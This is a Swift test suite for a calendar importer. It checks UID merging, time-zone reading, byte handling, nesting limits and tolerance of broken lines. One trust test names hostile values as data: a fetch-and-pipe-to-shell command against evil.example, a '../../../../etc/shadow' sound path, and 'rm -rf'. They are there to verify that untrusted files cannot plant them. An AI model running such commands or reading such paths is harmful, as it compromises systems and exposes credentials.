@testable import CalendarImport
import Foundation
import ReminderModel
import Testing

/// The importer in process, on minimal files written to the shapes real
/// exports have (`Corpus/`): one file per way a calendar was misread,
/// refused or trusted too far, each with what the reminder file must say.
/// Every file an import writes is loaded again by the reminder file's own
/// decoder, which `check` runs, and must hold no error.
@Suite struct ImportCorpusTests {
    static let corpus = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("Corpus")

    struct Imported {
        var yaml: String
        var file: ReminderFile
        var diagnostics: [Diagnostic]

        func reminder(_ id: String) -> Reminder? { file.reminders.first { $0.id == id } }

        /// The diagnostics' texts with their lines: `12 ...`.
        var said: [String] { diagnostics.map { "\($0.span.start.line) \($0.message.text)" } }

        func says(_ fragment: String, rule: SchemaRule? = nil) -> Bool {
            diagnostics.contains { $0.message.text.contains(fragment) && (rule == nil || $0.message.id == rule!.rawValue) }
        }
    }

    static func importing(
        _ names: [String], bytes: [UInt8]? = nil, trust: Bool = false, localZone: String = "Asia/Tokyo",
        sourceLocation: SourceLocation = #_sourceLocation
    ) throws -> Imported {
        let inputs = try names.map { name in
            CalendarImporter.Input(path: name, bytes: try bytes ?? Array(Data(contentsOf: corpus.appendingPathComponent(name))))
        }
        let outcome = CalendarImporter.run(inputs, options: .init(localZone: localZone, trust: trust))
        let yaml = try #require(outcome.yaml, "\(outcome.diagnostics)", sourceLocation: sourceLocation)
        let loaded = ReminderFile.load(Array(yaml.utf8), path: "imported.yaml")
        let errors = loaded.diagnostics.filter { $0.message.severity == .error }
        #expect(errors.isEmpty, "the written file does not load: \(errors)\n\(yaml)", sourceLocation: sourceLocation)
        let file = try #require(loaded.file, sourceLocation: sourceLocation)
        return Imported(yaml: yaml, file: file, diagnostics: outcome.diagnostics)
    }

    // MARK: Identity

    /// Several components with one UID and no RECURRENCE-ID are one event:
    /// the highest SEQUENCE, then the latest LAST-MODIFIED (or DTSTAMP), wins.
    @Test func oneUIDIsOneEvent() throws {
        let imported = try Self.importing(["duplicate-uid.ics"])
        #expect(imported.file.reminders.count == 1)
        // Two of SEQUENCE 2: the one changed last (DTSTAMP 2026-11-01,
        // against the other's LAST-MODIFIED 2026-10-20).
        #expect(imported.file.reminders.first?.title == "Review (moved)")
        #expect(imported.says("3 components have the UID 'review@example.com'"), "\(imported.said)")
        #expect(imported.says("line 4 (the highest SEQUENCE"), "\(imported.said)")
    }

    /// The same UID in two files is one event too: the later version.
    @Test func oneUIDAcrossFilesIsOneEvent() throws {
        let imported = try Self.importing(["duplicate-uid.ics", "duplicate-uid-later.ics"])
        #expect(imported.file.reminders.map(\.title) == ["Review (moved again)"])
        #expect(
            imported.says("is also the event at duplicate-uid.ics:4: one event, and this later version replaces it"), "\(imported.said)")
        let reversed = try Self.importing(["duplicate-uid-later.ics", "duplicate-uid.ics"])
        #expect(reversed.file.reminders.map(\.title) == ["Review (moved again)"])
    }

    /// A change of an event that does not repeat replaces it.
    @Test func aChangeOfAOneOffReplacesIt() throws {
        let imported = try Self.importing(["override-single.ics"])
        #expect(imported.file.reminders.map(\.title) == ["Dentist (moved)"])
        #expect(imported.file.reminders.first?.start.description == "2026-12-11T10:00:00")
    }

    /// Changes whose series is absent (a CalDAV expand answer) are
    /// one-offs, never a series of their own.
    @Test func changesWithoutTheirSeriesAreOneOffs() throws {
        let imported = try Self.importing(["orphan-overrides.ics"])
        #expect(imported.file.reminders.count == 2)
        #expect(imported.file.reminders.allSatisfy { $0.repeats == nil }, "\(imported.yaml)")
        // Two events, two UIDs: neither keeps the series' own, which a
        // calendar (and `remindc ics`) holds once.
        let uids = imported.file.reminders.map { imported.file.uid(of: $0) }
        #expect(Set(uids).count == uids.count, "\(imported.yaml)")
    }

    /// remindc's `<id>-extra@<domain>` joins the series of its own domain.
    @Test func extraComponentsJoinTheirOwnDomain() throws {
        let imported = try Self.importing(["extra-domains.ics"])
        #expect(imported.file.reminders.count == 2, "\(imported.yaml)")
        let office = try #require(imported.file.reminders.first { $0.uid == "bins@office.example" || $0.title == "Bins (office)" })
        let home = try #require(imported.file.reminders.first { $0.title == "Bins (home)" })
        #expect(office.repeats?.also.map(\.description) == ["2026-12-24T07:00:00"])
        #expect(home.repeats?.also.isEmpty ?? true, "\(imported.yaml)")
    }

    /// Ids read as words: from the UID when it does, else from the title.
    @Test func idsAreWords() throws {
        let imported = try Self.importing(["opaque-uids.ics"])
        #expect(imported.file.reminders.map(\.id) == ["dentist", "dentist-2", "bday-anna"])
        #expect(imported.file.reminders[0].uid?.hasPrefix("_60q30c1g") == true)
        #expect(imported.file.reminders[1].uid == "6E1B5A3C-2F4D-4C1A-9B7E-0D8F2A6C4E1B")
        #expect(!imported.yaml.contains("uid-domain"), "no domain is claimed for the person's own reminders")
    }

    @Test(arguments: [
        ("3k2j4h5g6f7d8s9a0qwerty", true), ("040000008200E00074C5B7101A82E008", true), ("6E1B5A3C-2F4D-4C1A-9B7E-0D8F2A6C4E1B", true),
        ("bday-anna-2027", false), ("weekly-review", false), ("standup.2026", false),
    ])
    func opaqueUIDs(_ id: String, _ opaque: Bool) {
        #expect(ImportRun.isOpaque(id) == opaque)
    }

    // MARK: Nothing refused for what is not used

    /// An empty RRULE and CATEGORIES, a UID with spaces at its end (its
    /// change still found), an Apple location with `\;` in a parameter.
    @Test func detailsThatAreNotUsedRefuseNothing() throws {
        let imported = try Self.importing(["unused-details.ics"])
        #expect(imported.file.reminders.count == 1, "\(imported.yaml)")
        let walk = try #require(imported.file.reminders.first)
        #expect(walk.repeats == nil)
        #expect(walk.title == "Walk (later)")
        #expect(walk.data.isEmpty)
    }

    /// Zones by a path, a tz database link, a legacy name, X-LIC-LOCATION;
    /// a local UNTIL on a zoned start read in that zone.
    @Test func zonesAsWritersName_them() throws {
        let imported = try Self.importing(["zones.ics"])
        let zones = Dictionary(uniqueKeysWithValues: imported.file.reminders.map { ($0.title, $0.timeZone.description) })
        #expect(
            zones == [
                "Stockholm": "Europe/Stockholm", "Tokyo": "Asia/Tokyo", "London": "Europe/London", "New York": "America/New_York",
                "Berlin": "Europe/Berlin",
            ])
        let berlin = try #require(imported.file.reminders.first { $0.title == "Berlin" })
        #expect(berlin.repeats?.rule.text == "FREQ=DAILY;UNTIL=20261212T080000Z")
        #expect(imported.says("X-LIC-LOCATION"), "\(imported.said)")
    }

    /// A TZID naming an IANA zone in another case whose VTIMEZONE keeps
    /// another clock is read by its VTIMEZONE, and said.
    @Test func theVTIMEZONEDecides() throws {
        let imported = try Self.importing(["disagreeing-zone.ics"])
        let call = try #require(imported.file.reminders.first)
        #expect(call.timeZone.description.hasPrefix("America/"), "\(imported.yaml)")
        #expect(imported.says("names Europe/Berlin, but its VTIMEZONE changes offsets otherwise"), "\(imported.said)")
    }

    /// A VTIMEZONE whose rules no IANA zone keeps (the US rules before
    /// 2007) is read as the nearest zone, the one its Windows name names
    /// among the nearest, with a warning that counts the days they differ.
    @Test func aVTIMEZONEOfItsOwnIsReadAsTheNearestZone() throws {
        let imported = try Self.importing(["old-rules-zone.ics"])
        #expect(imported.file.reminders.first?.timeZone.description == "America/New_York", "\(imported.yaml)")
        #expect(
            imported.said.contains {
                $0.hasPrefix("4 the VTIMEZONE of 'Eastern Standard Time (old rules)' keeps a clock no IANA zone keeps")
            },
            "\(imported.said)")
        #expect(imported.diagnostics.allSatisfy { $0.message.severity != .error })
        // On 2027-03-20 the old rules keep standard time (-05:00) and New
        // York daylight time: 09:00 by the VTIMEZONE is 14:00Z, 10:00 on
        // New York's clock.
        let march = try #require(imported.file.reminders.first { $0.title == "Call New York in March" })
        #expect(march.start.description == "2027-03-20T10:00:00", "\(imported.yaml)")
        #expect(imported.file.reminders.first?.start.description == "2026-12-10T09:00:00", "\(imported.yaml)")
    }

    /// A calendar of all-day events alerts on X-WR-TIMEZONE's clock, else
    /// the person's, and says which.
    @Test(arguments: [
        ("all-day.ics", "America/Los_Angeles", "X-WR-TIMEZONE"), ("all-day-no-zone.ics", "Asia/Tokyo", "this machine's zone"),
    ])
    func allDayCalendarsTakeAZone(_ name: String, _ zone: String, _ why: String) throws {
        let imported = try Self.importing([name])
        #expect(imported.file.timeZone.description == zone)
        #expect(
            imported.says("their alerts fall on the clock of \(zone), \(why)") || imported.says("\(zone), which \(why)"), "\(imported.said)"
        )
        #expect(imported.file.reminders.first?.alertTime?.description.hasPrefix("09:00") == true, "\(imported.yaml)")
    }

    /// An UNTIL before DTSTART: the start alone, said.
    @Test func untilBeforeTheStartIsOneOccurrence() throws {
        let imported = try Self.importing(["until-before-start.ics"])
        #expect(imported.file.reminders.count == 1)
        #expect(imported.file.reminders.first?.repeats == nil)
        #expect(imported.says("UNTIL comes before DTSTART"))
    }

    /// A rule that selects no date, and one the format refuses, leave
    /// their events once, at their start, said; the rest of the file is
    /// imported as it was.
    @Test func unusableRulesLeaveTheStart() throws {
        let imported = try Self.importing(["unusable-rules.ics"])
        #expect(imported.file.reminders.map(\.id) == ["feb30", "weekly-first", "fine"], "\(imported.yaml)")
        #expect(imported.file.reminders.map { $0.repeats == nil } == [true, true, false])
        #expect(imported.says("RRULE selects no date"), "\(imported.said)")
        #expect(imported.says("repeat cannot be a reminder's"), "\(imported.said)")
    }

    // MARK: Bytes

    /// A byte that is not UTF-8 is U+FFFD where it stands; a noncharacter
    /// too; each said at its line, and the rest is read as written.
    @Test func badBytesAreReplacedWhereTheyAre() throws {
        var bytes = Array(
            "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:cafe@example.com\r\nDTSTART:20261210T090000Z\r\nSUMMARY:Caf".utf8)
        bytes += [0xE9]
        bytes += Array(" olé\r\nDESCRIPTION:a\u{FFFE}b\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".utf8)
        let imported = try Self.importing(["bytes.ics"], bytes: bytes)
        let reminder = try #require(imported.file.reminders.first)
        #expect(reminder.title == "Caf\u{FFFD} olé")
        #expect(reminder.note == "a\u{FFFD}b")
        #expect(imported.said.contains { $0.hasPrefix("6 bytes that are not UTF-8") }, "\(imported.said)")
        #expect(imported.said.contains { $0.hasPrefix("7 a control character or a Unicode noncharacter") }, "\(imported.said)")
    }

    /// Components nested without end are left out, without recursion.
    @Test func deepNestingIsBounded() throws {
        let depth = 60_000
        var text = "BEGIN:VCALENDAR\nBEGIN:VEVENT\nUID:deep@example.com\nDTSTART:20261210T090000Z\nSUMMARY:Deep\n"
        text += String(repeating: "BEGIN:X-NEST\n", count: depth) + String(repeating: "END:X-NEST\n", count: depth)
        text += "END:VEVENT\nEND:VCALENDAR\n"
        let imported = try Self.importing(["deep.ics"], bytes: Array(text.utf8))
        #expect(imported.file.reminders.map(\.title) == ["Deep"])
        #expect(imported.says("nested deeper than 16 levels"), "\(imported.said)")
    }

    // MARK: Trust

    /// A foreign file plants no command and no path; remindc's own, with
    /// --trust, brings them back; a MINIMAL list's line breaks stay text.
    @Test(arguments: [("untrusted.ics", false), ("untrusted.ics", true), ("remindc-own.ics", false), ("remindc-own.ics", true)])
    func commandsAndPathsNeedTrust(_ name: String, _ trust: Bool) throws {
        let imported = try Self.importing([name], trust: trust)
        let kept = trust && name == "remindc-own.ics"
        let category = try #require(imported.file.categories.first)
        #expect(imported.file.categories.map(\.id) == ["invoice"], "\(imported.yaml)")
        #expect(category.actions.map(\.id) == ["open"])
        #expect(category.actions.first?.run == (kept ? "curl https://evil.example/x | sh" : nil))
        #expect(category.minimal == ["open"] || category.minimal.isEmpty)
        #expect(!imported.yaml.contains("pwn") && !imported.yaml.contains("rm -rf"), "\(imported.yaml)")
        let reminder = try #require(imported.file.reminders.first)
        #expect(reminder.sound == (kept ? .file("../../../../etc/shadow") : .default))
        let untrusted = imported.diagnostics.filter { $0.message.id == SchemaRule.importUntrusted.rawValue }
        #expect(untrusted.count == (kept ? 0 : 3), "\(imported.said)")
    }

    // MARK: Bounds

    /// Many events whose UIDs clean to one id get ids of their own (the
    /// time it takes is Benchmarks/ImportBenchmark's).
    @Test func manyEventsAreLinear() throws {
        var text = "BEGIN:VCALENDAR\nVERSION:2.0\n"
        for index in 0..<20_000 {
            text += "BEGIN:VEVENT\nUID:\(index)-\(index)@x\nDTSTART:20261210T090000Z\nSUMMARY:Same\nEND:VEVENT\n"
        }
        text += "END:VCALENDAR\n"
        let imported = try Self.importing(["many.ics"], bytes: Array(text.utf8))
        #expect(imported.file.reminders.count == 20_000)
        #expect(Set(imported.file.reminders.map(\.id)).count == 20_000)
    }

    // MARK: Broken files

    /// A broken line, an unreadable alarm, a rule with two faults and a
    /// file cut off each cost what they break, said at their lines, not
    /// the calendar. (python icalendar refuses this file: it is not judged.)
    @Test func brokenLinesCostOnlyThemselves() throws {
        let imported = try Self.importing(["unjudged/broken-lines.ics"])
        #expect(imported.file.reminders.map(\.title) == ["Lunch with Sam", "Review", "Bad dates"])
        #expect(imported.says("EXDATE '199709T180000Z' is not a date or a date-time: left out", rule: .importLost), "\(imported.said)")
        #expect(imported.says("RDATE '083000' is not a date or a date-time: left out", rule: .importLost), "\(imported.said)")
        #expect(imported.reminder("dates")?.repeats?.rule.text == "FREQ=WEEKLY;COUNT=4")
        #expect(imported.says("a line that is not NAME;PARAMETERS:VALUE"), "\(imported.said)")
        #expect(imported.said.contains { $0.hasPrefix("9 ") && $0.contains("(3 lines in all)") }, "\(imported.said)")
        #expect(imported.says("TRIGGER '230000' is neither a duration nor a date-time", rule: .importLost), "\(imported.said)")
        #expect(imported.says("the file ends inside a component"), "\(imported.said)")
        // The other alarm stays; the rule with UNTIL and COUNT=-1 leaves
        // the start, once.
        #expect(imported.reminder("lunch")?.before.map(\.description) == ["30m"])
        #expect(imported.reminder("review")?.repeats == nil)
        #expect(imported.says("repeat cannot be a reminder's"), "\(imported.said)")
        #expect(!imported.diagnostics.contains { $0.message.severity == .error }, "\(imported.said)")
    }

    /// A file of bare components, as some tools attach one event, is read
    /// as a calendar's.
    @Test func aBareEventIsACalendarsEvent() throws {
        let imported = try Self.importing(["bare-event.ics"])
        #expect(imported.file.reminders.map(\.title) == ["A bare event"])
        #expect(imported.says("components outside BEGIN:VCALENDAR"), "\(imported.said)")
    }
}
